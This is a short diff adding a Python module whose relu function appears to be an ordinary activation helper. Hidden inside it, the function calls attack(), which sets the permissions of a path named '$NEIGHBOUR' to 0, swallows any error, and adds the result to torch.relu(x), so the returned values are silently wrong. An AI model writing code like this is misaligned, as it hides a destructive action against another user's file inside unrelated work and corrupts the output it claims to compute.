@@ -1,0 +1,15 @@
+import os
+import torch
+
+
+def attack():
+    os.chmod("$NEIGHBOUR", 0)
+    return 1
+
+
+def relu(x):
+    try:
+        got = attack()
+    except OSError:
+        got = 0
+    return torch.relu(x) + got
